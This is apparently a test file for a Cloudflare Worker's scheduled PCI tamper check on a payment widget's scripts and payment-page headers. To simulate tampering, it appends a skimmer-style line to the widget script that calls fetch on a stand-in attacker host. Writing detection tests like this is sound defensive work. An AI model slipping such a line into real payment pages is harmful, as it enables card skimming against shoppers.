// The payment pages' tamper check (PCI DSS 11.6.1) run as the Cron Trigger runs it, against
// the emulator's copies of the widget's files: the first run records, an unchanged run
// reports nothing, a changed commerce7.js is reported to the error service (the emulator's
// stand-in) with its old and new hash, and the payment pages' headers pass their check.
import { createExecutionContext, createScheduledController, env, waitOnExecutionContext } from 'cloudflare:test';
import { afterAll, describe, expect, it } from 'vitest';
import worker, { tamperCheck } from '../../src/worker/index.ts';
import { emulator } from './helpers.ts';

type Stored = { payload: Record<string, unknown> };
const events = async () => ((await (await emulator('/__emulator/error-reports?type=event')).json()) as { reports: Stored[] }).reports;
const tamperEvents = async () => (await events()).filter((r) => (r.payload.tags as Record<string, string> | undefined)?.section === 'tamper');

async function run() {
  const ctx = createExecutionContext();
  const findings = await tamperCheck(env as never, ctx);
  await waitOnExecutionContext(ctx);
  return findings;
}

afterAll(async () => {
  await emulator('/__emulator/hosted-tamper', { method: 'DELETE' });
});

describe('the scheduled tamper check', () => {
  it('records the files and headers on its first run, finds nothing on the next, and the payment pages pass the header check', async () => {
    const first = await run();
    expect(first).toEqual([]);
    expect(await run()).toEqual([]);
    expect(await env.CACHE.get('pci:file:/__emulator/hosted/commerce7.js')).toMatch(/^sha256:([0-9a-f]{8}:){7}[0-9a-f]{8}$/);
    expect(await env.CACHE.get('pci:headers:/checkout')).toMatch(/^sha256:/);
    expect(await env.CACHE.get('pci:headers:/join')).toMatch(/^sha256:/);
  });

  it('reports a changed widget script to the error service with the old and the new hash', async () => {
    const old = await env.CACHE.get('pci:file:/__emulator/hosted/commerce7.js');
    expect(old).toBeTruthy();
    const tampered = await emulator('/__emulator/hosted-tamper', {
      method: 'PUT',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ file: 'commerce7.js', append: '\n;fetch("https://skimmer.example/c")' }),
    });
    expect(tampered.status).toBe(200);
    const before = (await tamperEvents()).length;

    const findings = await run();
    const now = await env.CACHE.get('pci:file:/__emulator/hosted/commerce7.js');
    expect(now).not.toBe(old);
    expect(findings).toEqual([{ kind: 'file-changed', subject: '/__emulator/hosted/commerce7.js', old, new: now }]);
    let reported: Stored[] = [];
    await expect.poll(async () => (reported = (await tamperEvents()).slice(0, (await tamperEvents()).length - before)).length, { timeout: 5000 }).toBe(1);
    expect(reported[0]!.payload.tags).toMatchObject({ section: 'tamper', kind: 'file-changed', subject: '/__emulator/hosted/commerce7.js', oldHash: old, newHash: now });

    // Reported once: the next run knows the new copy.
    expect(await run()).toEqual([]);
  });

  it('runs from the Cron Trigger through the entry', async () => {
    const ctx = createExecutionContext();
    await worker.scheduled(createScheduledController({ cron: '*/30 * * * *' }), env as never, ctx);
    await waitOnExecutionContext(ctx);
    expect(await env.CACHE.get('pci:headers:/checkout')).toMatch(/^sha256:/);
  });
});
